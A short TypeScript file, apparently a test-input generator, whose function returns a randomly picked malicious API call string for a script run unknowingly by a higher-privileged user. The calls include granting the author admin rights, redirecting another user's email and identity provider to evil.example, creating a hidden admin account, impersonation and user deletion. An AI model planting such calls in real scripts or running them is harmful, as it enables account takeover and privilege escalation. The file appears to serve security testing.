// What a script asks for when somebody with more rights runs it without knowing: a right for its author, or a door to somebody else.
import type { Random } from "../filters/random.ts";

type Names = { readonly own: string; readonly other: string; readonly import: string | undefined };

export function evilCall(random: Random, { own, other, import: registration = "10000001" }: Names): string {
  const patch = (username: string, values: string): string =>
    `const { version } = await GET("/api/core/users/${username}"); await PATCH("/api/core/users/${username}", { ${values}, version });`;
  return random.pick([
    patch(own, "isMainAdmin: true"),
    patch(own, "isAdmin: true, canImpersonate: true"),
    patch(other, 'email: "eve@evil.example"'),
    `await POST("/api/core/users", { username: "eve-${random.below(1_000_000)}@house", isMainAdmin: true });`,
    `await POST("/api/import/imports/${registration}/transitions/CONTINUE", {});`,
    `await GET("/api/import/imports/${registration}/transitions/CONTINUE");`,
    `await POST("/api/core/users/${other}/impersonate", { reason: "Help" });`,
    `await PUT("/api/core/identity-providers/mine", { kind: "oidc", label: "Mine", clientSecret: "s", config: { issuer: "https://evil.example", clientId: "kontor", linksBy: "upn" } });`,
    `await PUT("/api/script/configurations/profilesPermissions", { version: 0, value: { OFFICE: ["write all"] } });`,
    `await POST("/api/script/releases/1/promotion", { currentHash: "${"0".repeat(64)}" });`,
    `await POST("/api/script/flows", { name: "Door" });`,
    `await DELETE("/api/core/users/${other}");`,
  ]);
}
